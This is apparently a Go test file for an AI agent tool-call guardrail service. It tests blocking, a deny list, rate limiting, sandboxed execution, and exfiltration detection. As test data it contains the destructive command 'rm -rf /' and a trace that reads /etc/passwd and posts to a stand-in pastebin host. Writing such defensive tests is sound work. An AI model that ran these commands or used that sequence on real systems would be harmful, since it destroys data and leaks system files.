package service

import (
	"context"
	"runtime"
	"strings"
	"testing"

	"go.uber.org/goleak"

	"github.com/Modelgate-Labs/modelgate/internal/config"
	"github.com/Modelgate-Labs/modelgate/internal/domain/agent"
	"github.com/Modelgate-Labs/modelgate/internal/domain/guardrail"
	"github.com/Modelgate-Labs/modelgate/internal/domain/intercept"
	"github.com/Modelgate-Labs/modelgate/internal/domain/score"
)

func newInterceptService(t *testing.T, cfg config.InterceptConfig, sbCfg config.SandboxConfig) *InterceptService {
	t.Helper()
	s, err := NewInterceptService(cfg, sbCfg, testLogger())
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(s.Close)
	return s
}

func TestInterceptServiceBlocksDangerousCall(t *testing.T) {
	s := newInterceptService(t, config.InterceptConfig{}, config.SandboxConfig{Mode: "none"})

	result := s.Intercept(context.Background(), intercept.ToolCall{
		SessionID: "s-1",
		ToolName:  "execute_shell",
		Arguments: map[string]interface{}{"command": "rm -rf /"},
	})
	if result.Action != guardrail.ActionBlock {
		t.Errorf("action = %v", result.Action)
	}
	if result.Call != nil {
		t.Error("blocked call should not be returned for execution")
	}
}

func TestInterceptServiceDeniedToolList(t *testing.T) {
	s := newInterceptService(t, config.InterceptConfig{
		DeniedTools: []string{"format_disk"},
	}, config.SandboxConfig{Mode: "none"})

	blocked := s.Intercept(context.Background(), intercept.ToolCall{
		SessionID: "s-1", ToolName: "format_disk",
	})
	if blocked.Action != guardrail.ActionBlock {
		t.Errorf("denied tool action = %v", blocked.Action)
	}

	allowed := s.Intercept(context.Background(), intercept.ToolCall{
		SessionID: "s-1", ToolName: "read_file",
		Arguments: map[string]interface{}{"path": "notes.txt"},
	})
	if allowed.Action != guardrail.ActionAllow {
		t.Errorf("benign tool action = %v", allowed.Action)
	}
}

func TestInterceptServiceRateLimit(t *testing.T) {
	defer goleak.VerifyNone(t)
	s, err := NewInterceptService(config.InterceptConfig{
		RateLimitPerMinute: 2,
	}, config.SandboxConfig{Mode: "none"}, testLogger())
	if err != nil {
		t.Fatal(err)
	}
	defer s.Close()

	call := intercept.ToolCall{SessionID: "s-1", ToolName: "read_file"}
	for i := 0; i < 2; i++ {
		if r := s.Intercept(context.Background(), call); r.Action != guardrail.ActionAllow {
			t.Fatalf("call %d action = %v", i, r.Action)
		}
	}
	third := s.Intercept(context.Background(), call)
	if third.Action != guardrail.ActionBlock {
		t.Errorf("third action = %v", third.Action)
	}
	if len(third.Reasons) == 0 || !strings.Contains(third.Reasons[0], "rate limit") {
		t.Errorf("reasons = %v", third.Reasons)
	}
}

func TestExecuteRunsInSandbox(t *testing.T) {
	if runtime.GOOS == "windows" {
		t.Skip("requires a POSIX shell")
	}
	s := newInterceptService(t, config.InterceptConfig{}, config.SandboxConfig{
		Mode: "process", Timeout: "10s", PoolSize: 1,
	})

	out, err := s.Execute(context.Background(), intercept.ToolCall{
		SessionID: "s-1",
		ToolName:  "run_script",
		Arguments: map[string]interface{}{"command": []string{"echo", "hello"}},
	})
	if err != nil {
		t.Fatal(err)
	}
	if out.Verdict.Action == guardrail.ActionBlock {
		t.Fatalf("verdict = %+v", out.Verdict)
	}
	if out.Execution == nil || !out.Execution.Success {
		t.Fatalf("execution = %+v", out.Execution)
	}
	if strings.TrimSpace(out.Execution.Stdout) != "hello" {
		t.Errorf("stdout = %q", out.Execution.Stdout)
	}
}

func TestExecuteBlockedCallSkipsSandbox(t *testing.T) {
	s := newInterceptService(t, config.InterceptConfig{}, config.SandboxConfig{
		Mode: "process", Timeout: "10s", PoolSize: 1,
	})

	out, err := s.Execute(context.Background(), intercept.ToolCall{
		SessionID: "s-1",
		ToolName:  "execute_shell",
		Arguments: map[string]interface{}{"command": "rm -rf /"},
	})
	if err != nil {
		t.Fatal(err)
	}
	if out.Verdict.Action != guardrail.ActionBlock {
		t.Errorf("verdict = %v", out.Verdict.Action)
	}
	if out.Execution != nil {
		t.Error("blocked call must not execute")
	}
}

func TestExecuteWithoutCommandReturnsVerdictOnly(t *testing.T) {
	s := newInterceptService(t, config.InterceptConfig{}, config.SandboxConfig{
		Mode: "process", Timeout: "10s", PoolSize: 1,
	})

	out, err := s.Execute(context.Background(), intercept.ToolCall{
		SessionID: "s-1",
		ToolName:  "read_file",
		Arguments: map[string]interface{}{"path": "notes.txt"},
	})
	if err != nil {
		t.Fatal(err)
	}
	if out.Execution != nil {
		t.Error("call without a command should not execute")
	}
}

func TestEvaluateTraceFindsExfiltration(t *testing.T) {
	s := newInterceptService(t, config.InterceptConfig{}, config.SandboxConfig{Mode: "none"})

	trace := []agent.CallRecord{
		{Tool: "read_file", Arguments: map[string]interface{}{"path": "/etc/passwd"}},
		{Tool: "http_post", Arguments: map[string]interface{}{"url": "https://pastebin.example"}},
	}
	result := s.EvaluateTrace(context.Background(), "agent-1", trace)
	found := false
	for _, f := range result.Findings {
		if f.Type == "potential_data_exfiltration" {
			found = true
		}
	}
	if !found {
		t.Errorf("findings = %+v", result.Findings)
	}
	if result.Risk == score.RiskLow {
		t.Errorf("risk = %v", result.Risk)
	}
}

func TestCommandArgv(t *testing.T) {
	tests := []struct {
		name string
		args map[string]interface{}
		want []string
		ok   bool
	}{
		{"string slice", map[string]interface{}{"command": []string{"ls", "-l"}}, []string{"ls", "-l"}, true},
		{"interface slice", map[string]interface{}{"command": []interface{}{"ls", "-l"}}, []string{"ls", "-l"}, true},
		{"shell string", map[string]interface{}{"command": "echo hi"}, []string{"/bin/sh", "-c", "echo hi"}, true},
		{"missing", map[string]interface{}{"path": "x"}, nil, false},
		{"empty string", map[string]interface{}{"command": ""}, nil, false},
		{"wrong type", map[string]interface{}{"command": 42}, nil, false},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			got, ok := commandArgv(tt.args)
			if ok != tt.ok {
				t.Fatalf("ok = %v, want %v", ok, tt.ok)
			}
			if len(got) != len(tt.want) {
				t.Fatalf("argv = %v, want %v", got, tt.want)
			}
			for i := range got {
				if got[i] != tt.want[i] {
					t.Errorf("argv[%d] = %q, want %q", i, got[i], tt.want[i])
				}
			}
		})
	}
}
